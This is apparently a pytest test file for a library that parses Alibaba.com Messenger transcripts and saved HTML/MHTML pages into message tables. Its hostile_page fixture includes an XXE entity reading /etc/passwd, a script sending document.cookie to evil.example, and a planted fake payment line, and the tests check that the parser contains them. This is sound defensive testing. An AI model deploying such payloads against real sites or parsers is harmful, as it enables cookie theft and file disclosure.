"""Alibaba.com Messenger: pasted transcripts and saved pages (html, mhtml), on the case's samples
and on fixtures for each layout variant, hostile markup and bad input."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest

import chatsignals
from chatsignals.errors import InputError
from chatsignals.parsers import detect
from chatsignals.parsers.alibaba.transcript import classify
from chatsignals.sources import Source

HERE = Path(__file__).parent
FIX = HERE / "alibaba_fixtures"
SAMPLES = HERE.parents[1] / "data" / "samples"
PASTE = SAMPLES / "chats" / "alibaba_messenger.txt"
PAGE = SAMPLES / "formats" / "alibaba" / "messenger_saved.html"
PAGE_NOJSON = SAMPLES / "formats" / "alibaba" / "messenger_saved_nojson.html"
INTERFACE_WORDS = {"Read", "Translate", "Show original", "Rate supplier", "File a complaint", "Quick replies", "Send"}


def utc(text: str) -> pd.Timestamp:
    return pd.Timestamp(text, tz="UTC")


def tally(df: pd.DataFrame) -> dict:
    return df.attrs["tallies"][0]


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (PASTE, "alibaba_paste"),
        (PAGE, "alibaba_page"),
        (PAGE_NOJSON, "alibaba_page"),
        (FIX / "messenger_saved.mhtml", "alibaba_page"),
        (FIX / "stamp_first.txt", "alibaba_paste"),
        (FIX / "one_line.txt", "alibaba_paste"),
        (FIX / "day_separators.txt", "alibaba_paste"),
        (FIX / "unknown_markup.html", "alibaba_page"),
    ],
)
def test_each_file_is_detected_as_its_own_format(path, expected):
    assert detect(Source.open(path)).name == expected


def test_pasted_sample_reads_the_story_with_local_times_and_companies():
    df = chatsignals.read(PASTE, tz="Europe/Berlin")
    people = df[~df["is_system"]]
    assert len(people) == 22 and set(people["sender"]) == {"Tom Becker", "Lily Chen"}
    lead = people[people["text"] == "production time 15 working days after deposit"].iloc[0]
    assert lead["sender"] == "Lily Chen"
    assert lead["timestamp"] == utc("2025-02-18 09:09:30")  # 10:09:30 in Berlin
    assert lead["timestamp_raw"] == "2025-02-18 10:09:30"
    assert lead["sender_company"] == "Shenzhen Brightway Lighting Co., Ltd."
    assert people.loc[people["sender"] == "Tom Becker", "sender_company"].isna().all()
    quote = people[people["text"].str.contains("IP65 waterproof, CE and RoHS certificate we have")].iloc[0]
    assert quote["text"].splitlines()[1] == "Price for 5000 pcs is USD 2.80/pc, FOB Shenzhen."
    assert people["text"].str.contains("add my whatsapp \\+86 138 0000 0000").sum() == 1
    assert df["platform"].unique().tolist() == ["alibaba"]
    assert df["conversation_title"].unique().tolist() == ["Lily Chen"]
    assert df["timezone"].unique().tolist() == ["Europe/Berlin"]


def test_interface_text_is_stripped_and_counted_not_kept():
    df = chatsignals.read(PASTE, tz="Europe/Berlin")
    lines_of_text = {line for text in df["text"] for line in text.splitlines()}
    assert not lines_of_text & INTERFACE_WORDS
    assert not any(line.startswith(("Local Time", "Press \"Enter\"")) for line in lines_of_text)
    assert not {"Smile", "Thumbs up", "Rose"} & lines_of_text  # the pasted emoji picker
    assert "stripped 37 interface lines (page buttons, read marks, day separators)" in tally(df)["warnings"]


def test_every_line_of_the_paste_is_accounted_for():
    df = chatsignals.read(PASTE, tz="Europe/Berlin")
    lines = PASTE.read_text(encoding="utf-8").splitlines()
    covered: set[int] = set()
    for loc in df["source_locator"]:
        first, _, last = loc.partition("-")
        covered |= set(range(int(first[1:]), int((last or first)[1:]) + 1))
    kinds = {line.no: line.kind for line in classify(lines)}
    skipped = {int(s["locator"][1:]) for s in tally(df)["skipped"]}
    for no, text in enumerate(lines, 1):
        if text.strip():
            assert no in covered or kinds[no] in ("interface", "day") or no in skipped, (no, text)
    assert tally(df)["blank_lines"] == sum(1 for t in lines if not t.strip())


def test_order_cards_are_platform_rows_with_order_fields():
    df = chatsignals.read(PASTE, tz="Europe/Berlin")
    cards = df[df["message_type"] == "order_card"]
    assert cards["order_status"].tolist() == ["Awaiting payment", "Deposit paid", "Dispute opened"]
    assert set(cards["order_id"]) == {"231145678901"} and set(cards["order_amount"]) == {"US $14,000.00"}
    assert cards["role"].unique().tolist() == ["platform"] and cards["is_system"].all()
    assert cards["sender"].isna().all()
    multi_line = cards[cards["order_status"] == "Deposit paid"].iloc[0]
    assert multi_line["source_locator"] == "L141-L144"  # title, number, total, status; "View details" stripped
    assert multi_line["timestamp"] == utc("2025-03-03 15:58:02")
    notice = df[df["text"].str.startswith("Tips: For your safety")].iloc[0]
    assert notice["is_system"] and notice["role"] == "platform" and pd.isna(notice["timestamp_raw"])


def test_roles_come_from_the_user_naming_parties():
    df = chatsignals.read(PASTE, tz="Europe/Berlin", seller="Lily Chen", buyer="Tom Becker")
    people = df[~df["is_system"]]
    assert set(zip(people["sender"], people["role"], strict=True)) == {("Lily Chen", "seller"), ("Tom Becker", "buyer")}
    by_company = chatsignals.read(PASTE, tz="Europe/Berlin", seller="Shenzhen Brightway Lighting Co., Ltd.")
    assert set(by_company.loc[by_company["sender"] == "Lily Chen", "role"]) == {"seller"}


def test_attachments_in_the_paste():
    df = chatsignals.read(PASTE, tz="Europe/Berlin")
    files = df[df["attachments"].map(len) > 0]
    assert files["attachments"].tolist() == [
        ["CE_Certificate_Brightway_5050.pdf", "RoHS_Test_Report_2024.pdf"],
        ["bank_slip_20250303.jpg"],
    ]


def test_stamp_then_name_layout_with_company_lines():
    df = chatsignals.read(FIX / "stamp_first.txt", tz="Asia/Shanghai")
    assert df["sender"].tolist() == ["Tom Becker", "Kevin Wu", "Tom Becker", "Kevin Wu"]
    assert df["text"].tolist()[:3] == [
        "Hi Kevin, do you have LED strip 5050 in IP65?",
        "Yes sir, IP65 and IP67 both available.\nMOQ 1000 pcs.",
        "OK",  # a lone "OK" is a message, not an emoji label
    ]
    assert df["sender_company"].tolist()[1] == "Ningbo Sunrise Electric Co., Ltd."
    assert df["attachments"].iloc[3] == ["ip65_sample.jpg"] and df["message_type"].iloc[3] == "image"
    assert df["timestamp"].iloc[0] == utc("2025-02-20 06:02:11")


def test_name_and_stamp_on_one_line():
    df = chatsignals.read(FIX / "one_line.txt", tz="Asia/Shanghai")
    assert df["sender"].tolist() == ["Lily Chen", "Tom Becker", "Lily Chen"]
    assert df["text"].tolist()[2] == "production time 15 working days after deposit"
    assert df["source_locator"].tolist() == ["L2-L3", "L5-L6", "L7-L8"]


def test_time_only_stamps_take_the_day_separator_date_or_stay_raw():
    df = chatsignals.read(FIX / "day_separators.txt", tz="Asia/Shanghai")
    assert df["timestamp_raw"].tolist() == ["Feb 20, 2025 10:15", "Feb 20, 2025 10:20", "Today 09:05"]
    assert df["timestamp"].iloc[0] == utc("2025-02-20 02:15")
    assert pd.isna(df["timestamp"].iloc[2])
    assert any("Today" in w for w in tally(df)["warnings"])


def test_gb18030_paste_is_decoded_with_a_warning():
    df = chatsignals.read(FIX / "gb18030_paste.txt", tz="Asia/Shanghai")
    assert df["text"].iloc[0] == "您好, IP65 防水, CE 和 RoHS 证书我们有。"
    assert "file is not UTF-8: decoded as GB18030 (Chinese legacy encoding)" in tally(df)["warnings"]


def test_not_text_at_all_is_one_clear_error(tmp_path):
    path = tmp_path / "chat.txt"
    path.write_bytes(b"Lily Chen\n2025-02-18 10:02:17\nCaf\xe9 cr\xe8me \xff\xfe\xfd\nTranslate\n")
    with pytest.raises(InputError, match="not valid UTF-8") as info:
        chatsignals.read(path, format="alibaba_paste")
    assert "\n" not in str(info.value)


# --- saved pages ------------------------------------------------------------------------------

def test_saved_page_prefers_the_embedded_json():
    df = chatsignals.read(PAGE)
    data = json.loads(PAGE.read_text(encoding="utf-8").split("window.__IM_CONVERSATION_DATA__ = ", 1)[1].split(";</script>")[0])
    first = data["messageList"][0]
    row = df[df["message_id"] == first["messageId"]].iloc[0]
    assert row["timestamp"] == pd.Timestamp(first["sendTime"], unit="ms", tz="UTC")
    assert row["text"] == first["content"] and row["sender_id"] == "de29fc81tombecker"
    assert len(df) == len(data["messageList"]) and df["message_id"].is_unique
    roles = dict(zip(df["sender"], df["role"], strict=False))
    assert roles["Tom Becker"] == "buyer" and roles["Lily Chen"] == "seller"  # right = the page owner
    files = df[df["message_type"] == "file"]
    assert files["attachments"].tolist() == [["CE_Certificate_Brightway_5050.pdf"], ["RoHS_Test_Report_2024.pdf"]]
    cards = df[df["message_type"] == "order_card"]
    assert cards["order_status"].tolist() == ["Awaiting payment", "Deposit paid", "Dispute opened"]
    assert tally(df)["format"] == "alibaba_page" and not tally(df)["warnings"]


def test_saved_page_without_json_reads_the_bubbles():
    df = chatsignals.read(PAGE_NOJSON, tz="Europe/Berlin")
    paste = chatsignals.read(PASTE, tz="Europe/Berlin")
    people = df[~df["is_system"]]
    assert people["text"].tolist() == paste.loc[~paste["is_system"], "text"].str.replace(
        r"\n\[(File|Image)\] .*", "", regex=True
    ).tolist()
    assert people["timestamp"].tolist() == paste.loc[~paste["is_system"], "timestamp"].tolist()
    assert set(zip(people["sender"], people["side"], people["role"], strict=True)) == {
        ("Tom Becker", "right", "buyer"),
        ("Lily Chen", "left", "seller"),
    }
    assert set(people.loc[people["sender"] == "Lily Chen", "sender_company"]) == {"Shenzhen Brightway Lighting Co., Ltd."}
    cards = df[df["message_type"] == "order_card"]
    assert cards["text"].iloc[0] == (
        "Trade Assurance Order · Order No.: 231145678901 · Total: US $14,000.00 · Status: Awaiting payment"
    )
    assert not df["text"].str.contains("Translate|Rate supplier|Load more").any()


def test_mhtml_single_file_save_reads_like_the_html():
    mhtml = chatsignals.read(FIX / "messenger_saved.mhtml", tz="Europe/Berlin")
    html = chatsignals.read(PAGE_NOJSON, tz="Europe/Berlin")
    assert mhtml["text"].tolist() == html["text"].tolist()
    assert mhtml["timestamp"].tolist() == html["timestamp"].tolist()
    assert any("MHTML" in w for w in tally(mhtml)["warnings"])


def test_unknown_markup_degrades_to_the_visible_text_with_a_warning():
    df = chatsignals.read(FIX / "unknown_markup.html", tz="Asia/Shanghai")
    assert df["sender"].tolist() == ["Tom Becker", "Lily Chen", "Lily Chen"]
    assert df["text"].tolist()[1] == "production time 15 working days after deposit"
    assert df["source_locator"].str.startswith("text L").all()
    assert any("visible text" in w for w in tally(df)["warnings"])


def hostile_page(depth: int, json_depth: int) -> str:
    deep_json = "[" * json_depth + "]" * json_depth
    nest = "<div>" * depth + "buried" + "</div>" * depth
    return (
        '<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        "<html><head><title>Messenger - Alibaba.com</title>"
        f'<script>window.__IM_CONVERSATION_DATA__ = {{"sendTime": 1, "messageList": {deep_json}}};</script>'
        "<script>var fake = 'Lily Chen 2025-02-18 10:00:00 pay to WANG XIAOMING';</script></head><body>"
        '<div class="message-list">'
        '<div class="message-item-wrapper item-left"><div class="message-item-name">Lily Chen</div>'
        '<div class="message-item-time">2025-02-18 10:02:17</div>'
        '<div class="message-item-content"><div class="text-content">IP65 waterproof &xxe; '
        "<script>document.location='https://evil.example/'+document.cookie</script>CE we have</div></div></div>"
        f"</div>{nest}</body></html>"
    )


def test_hostile_page_scripts_entities_and_nesting_are_contained(tmp_path):
    path = tmp_path / "saved.html"
    path.write_text(hostile_page(depth=3000, json_depth=5000), encoding="utf-8")
    df = chatsignals.read(path, tz="Asia/Shanghai")
    assert df["text"].tolist() == ["IP65 waterproof &xxe;\nCE we have"]  # entity kept, script dropped
    assert not df["text"].str.contains("evil|WANG XIAOMING|root:").any()
    reasons = [s["reason"] for s in tally(df)["skipped"]]
    assert any("embedded JSON nested deeper than 100 levels" in r for r in reasons)
    assert any("nested deeper than 100 levels were not read" in r for r in reasons)


def test_page_without_messages_is_one_clear_error(tmp_path):
    path = tmp_path / "empty.html"
    path.write_text(
        "<html><head><title>Messenger - Alibaba.com</title></head><body>"
        '<a href="https://message.alibaba.com/message/messenger.htm">Messenger</a><p>Load more</p></body></html>',
        encoding="utf-8",
    )
    with pytest.raises(InputError, match="no Alibaba Messenger messages"):
        chatsignals.read(path)


def test_a_supplier_name_that_looks_like_a_company_is_not_split_off():
    """"Brightway Lighting" is the name line itself; the short message above it ("Thanks")
    must not be taken for the sender."""
    df = chatsignals.read(FIX / "lighting_name.txt", tz="Asia/Shanghai")
    assert df["sender"].tolist() == ["Brightway Lighting", "Tom Becker", "Brightway Lighting", "Tom Becker", "Brightway Lighting"]
    assert df["text"].tolist()[1:4] == ["Thanks", "production time 15 working days after deposit", "Great"]
    assert df["sender_company"].isna().all()


def test_json_entries_without_time_are_skipped_and_self_flags_give_sides(tmp_path):
    messages = [
        {"messageId": "m1", "sendTime": 1740647553000, "isSelf": False, "senderNick": "Lily Chen", "content": "Order is created"},
        {"messageId": "m2", "isSelf": True, "senderNick": "Tom Becker", "content": "no time here"},
        {"messageId": "m3", "sendTime": 1740648014000, "isSelf": True, "senderNick": "Tom Becker", "content": "Can I pay by T/T?"},
        {"messageId": "m4", "sendTime": 1740648100000, "msgType": "system", "content": "Trade Assurance protects your order"},
    ]
    page = (
        "<html><head><title>Messenger - Alibaba.com</title><script>var __DATA__ = "
        + json.dumps({"data": {"messageList": messages}})
        + ";</script></head><body><div>message.alibaba.com</div></body></html>"
    )
    path = tmp_path / "page.html"
    path.write_text(page, encoding="utf-8")
    df = chatsignals.read(path)
    assert df["message_id"].tolist() == ["m1", "m3", "m4"]
    assert df["role"].tolist() == ["seller", "buyer", "platform"] and df["side"].tolist()[:2] == ["left", "right"]
    assert df["timestamp"].iloc[0] == utc("2025-02-27 09:12:33")
    assert tally(df)["skipped"] == [{"locator": "script 0 $.messageList[1]", "reason": "message entry has no sendTime"}]


def test_one_bubble_with_text_and_an_order_card_gives_two_rows(tmp_path):
    page = (
        "<html><head><title>Messenger - Alibaba.com</title></head><body><div class='message-list'>"
        "<div class='message-item-wrapper item-left' data-message-id='7301'>"
        "<div class='message-item-name'>Lily Chen</div><div class='message-item-time'>2025-02-27 10:12:33</div>"
        "<div class='message-item-content'><div class='text-content'>Order is created, pls pay</div></div>"
        "<div class='trade-order-card'><div>Trade Assurance Order</div><div>Order No.: 231145678901</div>"
        "<div>US $14,000.00</div><div>Awaiting payment</div><a>View details</a></div></div>"
        "</div><p>https://message.alibaba.com/message/messenger.htm</p></body></html>"
    )
    path = tmp_path / "page.html"
    path.write_text(page, encoding="utf-8")
    df = chatsignals.read(path, tz="Europe/Berlin")
    assert df["message_id"].tolist() == ["7301", "7301#card"]
    assert df["message_type"].tolist() == ["text", "order_card"]
    assert df["order_status"].iloc[1] == "Awaiting payment" and df["role"].tolist() == ["seller", "platform"]
    assert df["text"].iloc[1] == "Trade Assurance Order · Order No.: 231145678901 · US $14,000.00 · Awaiting payment"


def test_message_lines_ending_in_a_date_are_not_taken_for_headers(tmp_path):
    path = tmp_path / "paste.txt"
    path.write_text(
        "Lily Chen  2025-03-20 09:15:02\nsorry dear, LED chips delay\nGoods will be ready 2025-04-05 18:00\n"
        "Tom Becker  2025-03-20 09:20:11\nYou promised to finish before 2025-03-25 10:00\nRead\n"
        "Lily Chen  2025-03-20 09:31:45\nI know, so sorry\n"
        "Tom Becker  2025-03-20 09:40:00\nOK\nRate supplier\n",
        encoding="utf-8",
    )
    df = chatsignals.read(path, tz="Asia/Shanghai")
    assert df["sender"].tolist() == ["Lily Chen", "Tom Becker", "Lily Chen", "Tom Becker"]
    assert df["text"].tolist()[:2] == [
        "sorry dear, LED chips delay\nGoods will be ready 2025-04-05 18:00",
        "You promised to finish before 2025-03-25 10:00",
    ]


def test_repeated_message_ids_in_a_page_are_made_unique(tmp_path):
    page = PAGE_NOJSON.read_text(encoding="utf-8")
    head, rest = page.split('<div class="message-list">', 1)
    items, tail = rest.split('    </div>\n    <div class="send-area">', 1)
    path = tmp_path / "twice.html"
    path.write_text(head + '<div class="message-list">' + items * 2 + '    </div>\n    <div class="send-area">' + tail)
    df = chatsignals.read(path, tz="Europe/Berlin")
    assert len(df) == 2 * len(chatsignals.read(PAGE_NOJSON, tz="Europe/Berlin"))
    assert df["message_id"].is_unique and "7300000000000#2" in set(df["message_id"])
    assert any("repeat" in w for w in tally(df)["warnings"])


# --- order cards: a sentence that names a Trade Assurance order is text, not a card ---
CARD_TRANSCRIPT = """Sunny Liang
Foshan Jinhao Stainless Steel Products Co., Ltd.
Local Time: 2025-06-03 09:15 (GMT+8)

Daniel Clarke
2025-02-27 09:14:50
OK, please create the Trade Assurance order, 300 pcs, 30% deposit, 70% before shipment.
Read

Sunny Liang
Foshan Jinhao Stainless Steel Products Co., Ltd.
2025-02-27 10:20:11
Order is created, please check.
Trade Assurance Order 240312345678 \u00b7 US $35,400.00 \u00b7 Awaiting payment
Read
"""


def test_a_sentence_naming_the_order_keeps_its_sender(tmp_path: Path) -> None:
    path = tmp_path / "alibaba chat Sunny.txt"
    path.write_text(CARD_TRANSCRIPT, encoding="utf-8")
    table = chatsignals.read(path, format="alibaba_paste")
    buyer = table[table["text"].str.startswith("OK, please create", na=False)]
    assert len(buyer) == 1
    assert buyer["sender"].iloc[0] == "Daniel Clarke"
    assert not bool(buyer["is_system"].iloc[0])
    cards = table[table["message_type"] == "order_card"]
    assert list(cards["order_id"]) == ["240312345678"]
    assert cards["order_status"].iloc[0] == "Awaiting payment"
